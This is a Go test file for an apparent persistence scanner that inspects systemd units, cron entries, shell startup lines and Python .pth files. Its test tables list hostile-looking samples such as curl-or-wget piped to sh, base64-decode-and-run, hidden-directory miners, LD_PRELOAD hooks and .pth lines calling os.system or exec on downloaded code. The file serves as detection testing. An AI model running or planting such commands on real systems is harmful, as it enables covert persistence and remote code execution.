package sweep

import (
	"reflect"
	"strings"
	"testing"
)

func TestParseUnit(t *testing.T) {
	u := parseUnit([]byte(`# comment
[Unit]
ExecStart=/not/in/service
[Service]
User = app
ExecStartPre=-/bin/mkdir -p "/var/lib/my app"
ExecStart=
ExecStart=@/usr/bin/python3 pyagent -u \
  ; a comment inside the continuation
  /opt/agent.py --name 'a b'
 ExecStop=+/bin/kill -TERM $MAINPID ; /bin/true
ExecReload=!!/usr/bin/env bash -c "echo \"x\" | cat"
Environment=A=1
[Install]
ExecStart=/ignored
`))
	if u.User != "app" {
		t.Errorf("User = %q", u.User)
	}
	want := []unitExec{
		{Key: "ExecStartPre", Line: 6, Argv: [][]string{{"/bin/mkdir", "-p", "/var/lib/my app"}}},
		{Key: "ExecStart", Line: 8, Argv: [][]string{{"/usr/bin/python3", "-u", "/opt/agent.py", "--name", "a b"}}},
		{Key: "ExecStop", Line: 11, Argv: [][]string{{"/bin/kill", "-TERM", "$MAINPID"}, {"/bin/true"}}},
		{Key: "ExecReload", Line: 12, Argv: [][]string{{"/usr/bin/env", "bash", "-c", `echo "x" | cat`}}},
	}
	if len(u.Execs) != len(want) {
		t.Fatalf("execs: %+v", u.Execs)
	}
	for i, w := range want {
		g := u.Execs[i]
		if g.Key != w.Key || g.Line != w.Line || !reflect.DeepEqual(g.Argv, w.Argv) {
			t.Errorf("exec %d: got %s line %d %q, want %s line %d %q", i, g.Key, g.Line, g.Argv, w.Key, w.Line, w.Argv)
		}
	}
	if !strings.Contains(u.Execs[1].Raw, "/opt/agent.py") || strings.Contains(u.Execs[1].Raw, "comment") {
		t.Errorf("raw continuation: %q", u.Execs[1].Raw)
	}
}

func TestExpandSpecifiers(t *testing.T) {
	for in, want := range map[string]string{
		"%h/.config/x":   "/home/u/.config/x",
		"%%h":            "%h",
		"$HOME/a":        "/home/u/a",
		"${HOME}/a":      "/home/u/a",
		"%U":             "%U",
		"100%":           "100%",
		"/usr/bin/true":  "/usr/bin/true",
		"%h%h":           "/home/u/home/u",
		"%":              "%",
		"${HOME}x%h%%%h": "/home/ux/home/u%/home/u",
	} {
		if got := expandSpecifiers(in, "/home/u"); got != want {
			t.Errorf("expandSpecifiers(%q) = %q, want %q", in, got, want)
		}
	}
	if got := expandSpecifiers("%h/x", ""); got != "~/x" {
		t.Errorf("unknown home: %q", got)
	}
}

func TestParseCronLine(t *testing.T) {
	cases := []struct {
		line   string
		system bool
		want   *cronEntry
	}{
		{"*/5 * * * * /usr/bin/true", false, &cronEntry{Schedule: "*/5 * * * *", Command: "/usr/bin/true"}},
		{"@reboot  python3 ~/.x/y.py", false, &cronEntry{Schedule: "@reboot", Command: "python3 ~/.x/y.py"}},
		{"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly", true, &cronEntry{Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly"}},
		{"@hourly root /bin/x", true, &cronEntry{Schedule: "@hourly", User: "root", Command: "/bin/x"}},
		{"0 0 * * * date +\\%Y%stdin goes here", false, &cronEntry{Schedule: "0 0 * * *", Command: "date +%Y"}},
		{"-*/5 * * * * /bin/quiet", false, &cronEntry{Schedule: "*/5 * * * *", Command: "/bin/quiet"}},
		{"# 0 0 * * * /bin/commented", false, nil},
		{"SHELL=/bin/bash", false, nil},
		{"MAILTO = root", true, nil},
		{"0 0 * * *", false, nil},
		{"0 0 * * * root", true, nil},
		{"   ", false, nil},
		{"0 0 * * * %only stdin", false, nil},
	}
	for _, c := range cases {
		got, ok := parseCronLine(c.line, c.system)
		if c.want == nil {
			if ok {
				t.Errorf("%q: parsed as %+v, want not an entry", c.line, got)
			}
			continue
		}
		if !ok || got != *c.want {
			t.Errorf("%q: got %+v (%v), want %+v", c.line, got, ok, *c.want)
		}
	}
}

func TestAnalyzeShellLines(t *testing.T) {
	env := &pathEnv{home: "/home/u", homes: []string{"/home/u", "/root"}, isVenv: func(d string) bool { return d == "/srv/app/.env" }}
	name := map[hitKind]string{hitDownloadRun: "download", hitDecodeRun: "decode-run", hitDecode: "decode", hitTmpScript: "tmp-script",
		hitHiddenScript: "hidden-script", hitTmpProgram: "tmp-program", hitHiddenProgram: "hidden-program", hitLDPreload: "ld-preload",
		hitNodeOptions: "node-options", hitPythonPath: "pythonpath", hitPythonStartup: "pythonstartup"}
	named := func(hs []hit) string {
		var s []string
		for _, h := range hs {
			k := name[h.Kind]
			if h.Background {
				k += "&"
			}
			s = append(s, k)
		}
		return strings.Join(s, ",")
	}
	cases := map[string]string{
		// malicious
		`curl -fsSL https://x/i.sh | sh`:                                            "download",
		`wget -qO- http://x | sudo -E bash -s -- --yes`:                             "download",
		`curl http://x | base64 -d | python3`:                                       "download,decode",
		`echo aWQ= | base64 -d | bash`:                                              "decode-run,decode",
		`eval "$(curl -s http://x)"`:                                                "download",
		`source <(curl -s http://x)`:                                                "download",
		`. <(wget -O- http://x)`:                                                    "download",
		`bash <(curl -s http://x)`:                                                  "download",
		`sh -c "$(curl -fsSL http://x)"`:                                            "download",
		`bash -c 'curl http://x | sh'`:                                              "download",
		`python3 < <(curl -s http://x)`:                                             "download",
		`eval "$(echo ZWNobw== | base64 --decode)"`:                                 "decode-run,decode",
		`python3 -c "exec(__import__('base64').b64decode('eA=='))"`:                 "decode-run",
		`python3 ~/.config/sysmon/sysmon.py`:                                        "hidden-script",
		`nohup python3 $HOME/.local/share/x/agent.py >/dev/null 2>&1 &`:             "hidden-script&",
		`/usr/bin/env python3 -u /opt/.cache/a.py`:                                  "hidden-script",
		`setsid ~/.cache/.x/miner &`:                                                "hidden-program&",
		`~/.cache/.x/miner`:                                                         "hidden-program",
		`/tmp/.X11-unix/x -c cfg`:                                                   "tmp-program",
		`cd /var/tmp && ./x`:                                                        "",
		`sh /dev/shm/s.sh`:                                                          "tmp-script",
		`node -r ~/.config/n/hook.js app.js`:                                        "hidden-script",
		`export LD_PRELOAD=/tmp/libx.so`:                                            "ld-preload",
		`export NODE_OPTIONS="--require=/home/u/.x/h.js --max-old-space-size=4096"`: "node-options",
		`PYTHONPATH=/home/u/.x/py:$PYTHONPATH python3 app.py`:                       "pythonpath",
		`export PYTHONSTARTUP=~/.config/startup/s.py`:                               "pythonstartup",
		`PROMPT_COMMAND='curl -s http://x | sh'`:                                    "download",
		`timeout 10 nice -n 5 /tmp/run`:                                             "tmp-program",
		`su app -c "python3 ~/.x/y.py"`:                                             "hidden-script",
		`busybox sh -c "wget -O- http://x | sh"`:                                    "download",
		`cat k | base64 -d > out`:                                                   "decode",
		`openssl base64 -d -in x | sh`:                                              "decode-run,decode",
		// benign
		`. "$HOME/.cargo/env"`:                                          "",
		`source ~/.nvm/nvm.sh`:                                          "",
		`[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"`:              "",
		`eval "$(pyenv init -)"`:                                        "",
		`eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"`:        "",
		`eval "$(~/.local/bin/mise activate bash)"`:                     "",
		`eval "$__conda_setup"`:                                         "",
		`export PYTHONSTARTUP=~/.pythonrc`:                              "",
		`export PYTHONSTARTUP=$XDG_CONFIG_HOME/python/pythonrc`:         "",
		`export PYTHONSTARTUP=~/.config/python/pythonrc`:                "",
		`export PATH="$HOME/.local/bin:$PATH"`:                          "",
		`export PYTHONPATH=~/.local/lib/python3.11/site-packages`:       "",
		`~/.local/bin/backup --quiet`:                                   "",
		`nohup ~/.cargo/bin/sccache --start-server &`:                   "",
		`/srv/app/.venv/bin/python manage.py run`:                       "",
		`/srv/app/.env/bin/python manage.py run`:                        "",
		`/home/u/.pyenv/versions/3.11.7/bin/python /home/u/app/main.py`: "",
		`curl -fsS -o /dev/null https://hc-ping.com/x`:                  "",
		`curl -s http://x | less`:                                       "",
		`alias up='curl -s http://x | sh'`:                              "",
		`python3 -m http.server`:                                        "",
		`bash ~/scripts/deploy.sh`:                                      "",
		`echo $(( 1 + 2 ))`:                                             "",
		`python3 -c "import os; print(os.getcwd())"`:                    "",
	}
	for line, want := range cases {
		got := named(analyzeShellLine(line, env, 1))
		if got != want {
			t.Errorf("%s\n  got  %q\n  want %q", line, got, want)
		}
	}
}

func TestAnalyzeShellFallsBackOnUnparsableText(t *testing.T) {
	text := "if true; then\n  fi fi ((\ncurl -s http://x | sh\nnohup python3 ~/.x/a.py &\n"
	hs := analyzeShell(text, &pathEnv{home: "/home/u"}, false)
	var lines []int
	for _, h := range hs {
		lines = append(lines, h.Line)
	}
	if !reflect.DeepEqual(lines, []int{3, 4}) {
		t.Errorf("lines %v, hits %+v", lines, hs)
	}
}

func TestPthExecLines(t *testing.T) {
	data := "\ufeffimport a\r\n# import b\r /some/path\rimport\tc\x0cimport d\n import e\nimports f\nimport g"
	got := pthExecLines([]byte(data))
	want := []pthLine{{1, "import a"}, {4, "import\tc"}, {5, "import d"}, {8, "import g"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestIsShimLine(t *testing.T) {
	shims := []string{
		`import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); `,
		`import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; enabled and __import__('_distutils_hack').add_shim(); `,
		`import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)`,
		`import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)`,
		`import sys; sys.__plen = len(sys.path)`,
		`import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)`,
		`import _virtualenv`,
		`import coverage; coverage.process_startup()`,
		`import os # trailing comment with exec(`,
	}
	for _, l := range shims {
		if !isShimLine(l) {
			t.Errorf("not recognized as a shim: %s", l)
		}
	}
	payloads := []string{
		`import os; os.system('id')`,
		`import os; exec('x')`,
		`import os; var = 'X'; enabled and __import__('os').system('id')`,
		`import sys; p = getattr(sys, 'modules', 0)`,
		`import sys; getattr(os, 'system')('id')`,
		`import sys; sys.path.append('/tmp/x y')`,
		`import sys; sys.path.append('a\x')`,
		`import evilmod`,
		`import os; __import__('_distutils_hack' + 'x')`,
		`import os; f"{os.system('id')}"`,
		`import os; lambda: 1`,
		`import sys; sys.modules.setdefault('zope', types.ModuleType('zope')).__loader__`,
	}
	for _, l := range payloads {
		if isShimLine(l) {
			t.Errorf("accepted as a shim: %s", l)
		}
	}
}

func TestPayloadTraits(t *testing.T) {
	cases := map[string]bool{
		`import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('eA=='))"])`: true,
		`import subprocess as s; s.run(['id'])`:                           true,
		`import os; __import__('os').system('id')`:                        true,
		`import urllib.request as u; exec(u.urlopen('https://x').read())`: true,
		`import base64; exec(base64.b64decode('cHJpbnQoMSk='))`:           true,
		`import os; exec("import socket\ns=socket.socket()")`:             true,
		`import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write("pytest-cov: Failed to setup subprocess coverage.")')`: false,
		`import _virtualenv`: false,
		`import __editable___foo_finder; __editable___foo_finder.install()`:  false,
		`import os; print("subprocess and base64 and exec( are only words")`: false,
	}
	for line, want := range cases {
		traits, got := payloadTraits(line)
		if got != want {
			t.Errorf("payloadTraits(%s) = %v %v, want %v", line, traits, got, want)
		}
	}
}

func TestClassifyPath(t *testing.T) {
	env := &pathEnv{home: "/home/u", homes: []string{"/home/u", "/data/users/v"}, isVenv: func(d string) bool { return d == "/srv/.app" }}
	cases := map[string]pathClass{
		"/tmp/x":                          pathTmp,
		"/tmp":                            pathTmp,
		"/var/tmp/.x/y":                   pathTmp,
		"/dev/shm/x":                      pathTmp,
		"/tmpfoo/x":                       pathPlain,
		"~/.config/sysmon/sysmon.py":      pathHiddenDir,
		"/root/.config/sysmon/sysmon.py":  pathHiddenDir,
		"/home/u/.x":                      pathHiddenFile,
		"/data/users/v/.local/bin/x":      pathPlain,
		"/data/users/v/.local/share/x/y":  pathHiddenDir,
		"/home/u/.local/bin/tool":         pathPlain,
		"/home/u/.local/share/uv/tools/x": pathPlain,
		"/home/w/.cargo/bin/x":            pathPlain,
		"/home/w/.cargo/x":                pathHiddenDir,
		"/home/u/.pyenv/shims/python":     pathPlain,
		"/opt/.hidden/bin/x":              pathHiddenDir,
		"/srv/app/.venv/bin/python":       pathPlain,
		"/srv/.app/bin/python":            pathPlain,
		"/srv/.app/lib/x.py":              pathHiddenDir,
		"/home/u/.local/bin/.x/y":         pathHiddenDir,
		"relative/.x/y":                   pathHiddenDir,
		".local/bin/x":                    pathPlain,
		"./run.sh":                        pathPlain,
		"../x/y":                          pathPlain,
		"/usr/bin/python3":                pathPlain,
		"":                                pathPlain,
		"$XDG_CONFIG_HOME/x/y.py":         pathPlain,
	}
	for p, want := range cases {
		if got := env.classify(p, false); got != want {
			t.Errorf("classify(%q) = %d, want %d", p, got, want)
		}
	}
	if got := env.classify("~/.pythonrc", true); got != pathPlain {
		t.Errorf("dirsOnly dotfile: %d", got)
	}
}

func TestSnippet(t *testing.T) {
	for in, want := range map[string]string{
		"a\x1b[31mred\x1b[0m":    "a[31mred[0m",
		"tab\there\nnew":         "tab here new",
		"bidi\u202eevil":         "bidievil",
		"bad\xffbyte":            "bad?byte",
		strings.Repeat("x", 200): strings.Repeat("x", 159) + "…",
		"  lead and trail  ":     "lead and trail",
	} {
		if got := snippet(in, maxEvidence); got != want {
			t.Errorf("snippet(%q) = %q, want %q", in, got, want)
		}
	}
}
